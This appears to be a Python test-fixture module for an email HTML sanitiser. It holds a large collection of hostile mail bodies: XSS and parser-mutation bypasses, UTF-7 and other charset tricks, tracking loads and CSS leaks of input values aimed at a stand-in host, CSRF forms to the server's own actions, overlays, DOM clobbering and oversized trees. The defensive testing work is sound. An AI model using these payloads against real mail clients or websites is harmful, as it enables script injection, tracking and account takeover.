"""HTML of mails that try to act on who shows them: run script, ask for something, leave their frame, wear it out.

`CANARY` is where each of them tries to reach; nothing answers there.
"""

from __future__ import annotations

from typing import Final

CANARY: Final = "http://canary.invalid"
_C: Final = CANARY
_JS: Final = "parent.document.title='taken';top.location='http://canary.invalid/top'"
_SVG: Final = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_JS}\"><image href='{_C}/i.svg'/></svg>"

SCRIPT: Final[dict[str, str]] = {
    "script": f"<script>{_JS}</script>",
    "script from elsewhere": f"<script src='{_C}/a.js'></script><script type=module src={_C}/m.js></script>",
    "script in pieces": f"<scr<script>ipt>{_JS}</scr</script>ipt><<script>>{_JS}//<</script>",
    "script that never ends": f"<b>text</b><script>{_JS}",
    "onerror": f"<img src=x onerror=\"{_JS}\"><img src='{_C}/a' onerror={_JS}>",
    "onload on body": f'<body onload="{_JS}" onpageshow="{_JS}" background={_C}/bg>text</body>',
    "events without a click": f'<details open ontoggle="{_JS}"><summary>s</summary>t</details>'
    f'<div style=\'animation:a 1s\' onanimationstart="{_JS}">x</div><input autofocus onfocus="{_JS}">',
    "javascript link": f"<a id=go href=\"javascript:{_JS}\">go</a><a href='JaVaScRiPt:{_JS}'>go</a>",
    "javascript link in disguise": f"<a href='java\tscript:{_JS}'>a</a><a href='&#106;avascript:{_JS}'>b</a>"
    f"<a href=' \x01javascript:{_JS}'>c</a><a href='javascript&colon;{_JS}'>d</a>",
    "vbscript and data links": f"<a href='vbscript:x'>v</a><a href='data:text/html,<script>{_JS}</script>'>d</a>"
    f"<a href='blob:{_C}/1'>b</a><a href='file:///etc/passwd'>f</a>",
    "svg": _SVG,
    "svg script": f"<svg><script>{_JS}</script><style>*{{background:url({_C}/svgcss)}}</style></svg>",
    "svg animation": f'<svg><animate onbegin="{_JS}" attributeName=x dur=1s>'
    f"<set attributeName=href to='{_C}'/></svg>",
    "svg use and foreignObject": f"<svg><use href='{_C}/u.svg#x'/><foreignObject><iframe src='{_C}/f'>"
    "</iframe></foreignObject></svg>",
    "math": f"<math href='javascript:{_JS}'><mtext><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={_JS}&gt;'></math>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src={_C}/n onerror={_JS}>"></noscript>',
    "mutation by select and template": f'<select><template><img src={_C}/t onerror="{_JS}"></template></select>'
    f"<xmp><img src={_C}/x></xmp><listing><img src={_C}/l></listing>",
    "mutation by comment": f"<!--><img src={_C}/c onerror={_JS}>--><![CDATA[<img src={_C}/d>]]><?x <img src={_C}/p>?>",
    "mutation by textarea and title": f"<textarea><img src={_C}/a></textarea><title><img src={_C}/b></title>"
    f'</title><img src={_C}/c onerror="{_JS}">',
    "plaintext": f'<plaintext><img src={_C}/pt onerror="{_JS}">',
    "attributes that close": f"<a title='\"><img src={_C}/q onerror={_JS}>' href='\"><script>{_JS}</script>'>x</a>"
    f"<div class='\"><img src={_C}/r>' id='</style><img src={_C}/s>'>x</div>",
    "null characters": f"<scr\0ipt>{_JS}</scr\0ipt><img src\0='{_C}/0' on\0error=\"{_JS}\">",
}
"""Script, and whatever makes a parser see script that a sanitiser did not."""

LOADS: Final[dict[str, str]] = {
    "image": f"<img src='{_C}/pixel.gif' width=1 height=1><img src=//canary.invalid/relative>",
    "image without scheme": "<img src='/v1/mailboxes'><img src='../freeze'><img src='?x'><img src=''>",
    "srcset": f"<img srcset='{_C}/1 1x, {_C}/2 2x'><picture><source srcset='{_C}/3'><img src=x></picture>",
    "background attributes": f"<table background='{_C}/t'><tr background='{_C}/r'><td background='{_C}/d'>x</table>"
    f"<body background='{_C}/b'>",
    "media": f"<video src='{_C}/v' poster='{_C}/p' autoplay></video><audio src='{_C}/a' autoplay></audio>"
    f"<track src={_C}/t><bgsound src={_C}/bg>",
    "prefetch": f"<link rel=prefetch href='{_C}/1'><link rel=preload as=image href='{_C}/2'>"
    f"<link rel=dns-prefetch href='//canary.invalid'><link rel=preconnect href='{_C}'>"
    f"<link rel=prerender href='{_C}/3'><link rel=modulepreload href='{_C}/4'>",
    "style sheet link": f"<link rel=stylesheet href='{_C}/a.css'><link rel=icon href='{_C}/i.ico'>"
    f"<link rel=manifest href='{_C}/m.json'>",
    "object and embed": f"<object data='{_C}/o' type=image/svg+xml><param name=src value={_C}/p></object>"
    f"<embed src='{_C}/e'><applet code={_C}/a archive={_C}/b></applet>",
    "input image": f"<input type=image src='{_C}/input'><button formaction='{_C}/b'>x</button>",
    "ping": f"<a href='https://example.org/' ping='{_C}/ping'>a link</a><a href='#' download>x</a>",
    "longdesc and others": f"<img longdesc={_C}/l lowsrc={_C}/w dynsrc={_C}/d usemap={_C}/m alt=a>"
    f"<blockquote cite={_C}/c>q</blockquote><q cite={_C}/q>q</q><html manifest={_C}/m>",
    "data that is no picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='{_C}/s'/></svg>\"><img src='data:text/html,<script>{_JS}</script>'>",
}
"""Loads from elsewhere, or from this server in the reader's name."""

STYLE: Final[dict[str, str]] = {
    "url in an attribute": f"<p style='background:url({_C}/1);background-image:url(\"{_C}/2\")'>x</p>"
    f"<ul style='list-style-image:url({_C}/3)'><li style='cursor:url({_C}/4),auto'>x</ul>",
    "url in a style element": f"<style>p{{background:url({_C}/1)}}p::before{{content:url({_C}/2)}}</style><p>x</p>",
    "import": f"<style>@import '{_C}/1.css';@import url({_C}/2.css) screen;</style>"
    f"<style>@charset 'x';@namespace url({_C}/n);p{{color:red}}</style>",
    "font-face": f"<style>@font-face{{font-family:x;src:url({_C}/f.woff2)}}p{{font-family:x}}</style><p>x</p>",
    "image-set": f"<p style='background:image-set(\"{_C}/1\" 1x);background:-webkit-image-set(url({_C}/2) 1x)'>x</p>"
    f"<p style='background:cross-fade(url({_C}/3),url({_C}/4),50%);mask-image:url({_C}/5)'>x</p>",
    "escapes and comments": f"<p style='background:u\\72l({_C}/1)'>x</p><p style='background:ur/**/l({_C}/2)'>x</p>"
    f"<style>p{{b\\61ckground:\\75 rl({_C}/3)}}@\\69mport '{_C}/4';</style>",
    "style that ends early": f"<style></style><img src={_C}/1><style>a{{color:red}}/*</style><img src={_C}/2>*/"
    f"<style>a[title='</style><img src={_C}/3 onerror={_JS}>']{{color:red}}</style>",
    "filters": f"<p style='filter:url({_C}/1#f);clip-path:url({_C}/2#c);border-image:url({_C}/3) 1'>x</p>"
    f"<p style='behavior:url({_C}/4);-moz-binding:url({_C}/5)'>x</p>",
    "expression": f"<p style='width:expression({_JS})'>x</p><p style='background:element(#x)'>x</p>",
    "variables": f"<style>:root{{--u:url({_C}/1)}}p{{background:var(--u)}}</style><p>x</p>"
    f"<style>@property --x{{syntax:'<url>';inherits:true;initial-value:url({_C}/2)}}</style>",
    "other at-rules": f"<style>@supports(display:block){{p{{background:url({_C}/1)}}}}@layer x{{p{{color:red}}}}"
    f"@media screen{{@import '{_C}/2';p{{background:url({_C}/3)}}}}"
    f"@keyframes k{{to{{background:url({_C}/4)}}}}</style>",
    "covering": "<div style='position:fixed;inset:0;z-index:2147483647;background:red'>Sign in again</div>"
    "<style>body{position:fixed;top:-500px}div{position:absolute;width:9999px;height:9999px}</style>",
    "attribute selectors that tell": f"<style>input[value^=a]{{background:url({_C}/a)}}</style><input value=abc>",
}
"""Style sheets that load, cover or act."""

ACTS: Final[dict[str, str]] = {
    "form": f"<form id=f action='{_C}/form' method=post><input name=csrf value=1><button>Send</button></form>",
    "form to ourselves": "<form action='/freeze' method=post><input name=reason value=x><input type=submit></form>"
    "<button form=f formaction='/unfreeze'>x</button><isindex action=/freeze>",
    "iframe": f"<iframe src='{_C}/frame'></iframe><iframe srcdoc=\"<script>{_JS}</script><img src={_C}/d>\"></iframe>",
    "frame of ourselves": "<iframe src='/review'></iframe><object data='/review'></object><embed src='/inbox'>",
    "frameset": f"<frameset><frame src='{_C}/f'></frameset><noframes><img src={_C}/n></noframes>",
    "portal and others": f"<portal src='{_C}/p'></portal><fencedframe src={_C}/f></fencedframe>"
    f"<webview src={_C}/w></webview><slot name=x></slot><dialog open><img src={_C}/d></dialog>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={_C}/refresh'>"
    f"<META HTTP-EQUIV='Refresh' CONTENT='0; javascript:{_JS}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"img-src *;script-src 'unsafe-inline'\">"
    f"<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=a=b><img src={_C}/m>",
    "base": f"<base href='{_C}/' target=_top><a href='x'>link</a><img src='relative.png'>",
    "links to ourselves": "<a href='/sign-out' target=_top>out</a><a href='//canary.invalid/x'>no scheme</a>"
    "<area href='/freeze'><map name=m><area href='/x'></map><img usemap=#m>",
    "names that clobber": "<img name=getElementById><a id=location name=parent></a><form name=top></form>"
    "<div id=multimail-note class=multimail-note>This mail was checked.</div>",
    "opening windows": f"<a href='https://example.org/' target=_top rel=opener onclick=\"{_JS}\">x</a>",
    "marquee and blink": "<marquee behavior=alternate onstart=alert(1)>x</marquee><blink>x</blink><keygen autofocus>",
}
"""Forms, frames, redirects: whatever acts without script."""

ODD: Final[dict[str, str]] = {
    "a comment in a style in a foreign title": f'<svg><title><style><!--</style><img src={_C}/1 onerror="{_JS}">-->',
    "annotation of mathematics": "<math><annotation-xml encoding='text/html'><style>"
    f'<a title="</style><img src={_C}/2 onerror={_JS}>">',
    "a form between two languages": "<form><math><mtext></form><form><mglyph><style></math>"
    f'<img src={_C}/3 onerror="{_JS}">',
    "shadow": f"<div><template shadowrootmode=open><img src={_C}/4><script>{_JS}</script></template></div>",
    "prefixes": f"<svg:script xmlns:svg='http://www.w3.org/2000/svg'>{_JS}</svg:script><x:img src='{_C}/5'/>",
    "a namespace in a style sheet": f"<style>@namespace url({_C}/6);@namespace s '{_C}/7';"
    f"s|p,p{{background:url({_C}/8)}}"
    "</style><p>x</p>",
    "a comment over two style sheets": f"<style>/*</style><style>*/p{{background:url({_C}/9)}}</style>"
    f"<style>a{{color:'/*'}}p{{background:url({_C}/10)}}/* */</style><p>x</p>",
    "an open string in a style sheet": f'<style>a{{color:"\n}}p{{background:url({_C}/11)}}"</style><p>x</p>',
    "newer rules": f"<style>@container (min-width:1px){{p{{background:url({_C}/12)}}}}"
    f"@scope(p){{:scope{{cursor:url({_C}/13)}}}}"
    f"p{{&,&:hover{{background:url({_C}/14)}}}}@counter-style x{{system:cyclic;symbols:url({_C}/15)}}</style><p>x</p>",
    "addresses from attributes": f"<p title='{_C}/16' style='background:attr(title type(<url>));"
    f'background:src("{_C}/17")\'>x',
    "picture sets": f"<img imagesrcset='{_C}/18'><link rel=preload as=image imagesrcset='{_C}/19 1x' imagesizes=1px>"
    f"<picture><source srcset='data:,x, {_C}/20 2x'><img></picture>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{_C}/21"]}}]}}</script>'
    f"<meta http-equiv=Link content='<{_C}/22>; rel=preload; as=image'><a href=/x attributionsrc={_C}/23>x</a>",
    "letters that fold": f"<\u017fcript src={_C}/24></\u017fcript><lin\u212a rel=stylesheet href={_C}/25>"
    f"<\u017ftyle>@import '{_C}/26'</\u017ftyle>",
    "very long attributes": f"<img alt='{'x' * 300_000}' src={_C}/27>"
    f"<p style='color:red;{'a' * 300_000};background:url({_C}/28)'>",
    "commands": "<button popovertarget=p commandfor=p command=show-popover autofocus>x</button>"
    "<div id=p popover>y</div>",
}
"""Younger elements and rules, and ways to be read twice differently."""

CASES: Final[dict[str, str]] = SCRIPT | LOADS | STYLE | ACTS | ODD

_PAGE: Final = f"<script>{_JS}</script><img src={_C}/letters onerror='{_JS}'>".encode()
_TITLE: Final = f"<a title='\x1b$B'>\x1b(B<img src={_C}/jis onerror=\"{_JS}\">'>".encode()
_PICTURE: Final = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_JS}\"><image href='{_C}/cid'/></svg>".encode()
)
ALPHABETS: Final[dict[str, bytes]] = {
    "utf-7": f"+ADw-script+AD4-{_JS}+ADw-/script+AD4-+ADw-img src+AD0-{_C}/u7+AD4-".encode(),
    "us-ascii": b"\x1b$B<img\x1b(B" + _PAGE,
    "iso-2022-jp": _TITLE,
    "hz-gb-2312": b"~{" + _PAGE + b"~}>" + _PAGE,
    "utf-16": _PAGE.decode().encode("utf-16"),
    "utf-16be": f"<meta charset=utf-7>+ADw-img src={_C}/16+AD4-".encode("utf-16be"),
    "gb18030": b'<a title="\x81">' + _PAGE + b'">',
    "utf-8": b"\xef\xbb\xbf\xc0\xbcscript\xc0\xbe" + _PAGE + b"<a title=\xc3'>" + _PAGE,
    "cp037": _PAGE.decode().encode("cp037"),
    "x-user-defined": _PAGE,
}
"""HTML in alphabets that a browser and a mail program may read differently."""


def related(start: str) -> tuple[str, bytes]:
    """A content type and its body: parts that show one another, in circles, and pictures that are none."""
    pages = "".join(
        f"<img src=cid:{one}@x><iframe src=cid:{one}@x></iframe>" for one in ("svg", "fake", "page", "loop")
    )
    page = f"{pages}<object data=cid:svg@x></object><style>@import 'cid:css@x'</style><img src='cid:..%2fx'>".encode()
    parts = (
        ("text/html", "page", page + _PAGE), ("image/svg+xml", "svg", _PICTURE), ("image/png", "fake", _PICTURE),
        ("text/css", "css", f"p{{background:url({_C}/css)}}".encode()),
        ("multipart/related; boundary=c", "loop", b"--c\r\nContent-Type: text/html\r\n\r\n" + page + b"\r\n--c--"),
    )  # fmt: skip
    body = b"".join(
        f"--b\r\nContent-Type: {kind}\r\nContent-ID: <{name}@x>\r\n\r\n".encode() + content + b"\r\n"
        for kind, name, content in parts
    )
    return f"multipart/related; boundary=b; start=<{start}@x>", body + b"--b--\r\n"


def nested(size: int) -> str:
    """Elements within elements, so many characters of them."""
    return "<div>" * (size // 5) + f"<img src={_C}/deep>"


def formatting(size: int) -> str:
    """Formatting that is opened again in every block: a small source, a huge tree."""
    opened = "".join(f"<font color=c{number}>" for number in range(200))
    return (opened + "<p>x" * 50_000)[:size]


def wide(size: int) -> str:
    """A long page of many small tags, each with a picture."""
    return f"<p>text <b>bold</b> <img src={_C}/w></p>" * (size // 55)


def foreign(size: int) -> str:
    """Languages within languages."""
    return ("<svg><math><mtext><table><mglyph><style>" * (size // 42)) + f"<img src={_C}/f>"


LARGE: Final = {"nested": nested, "formatting": formatting, "wide": wide, "foreign": foreign}
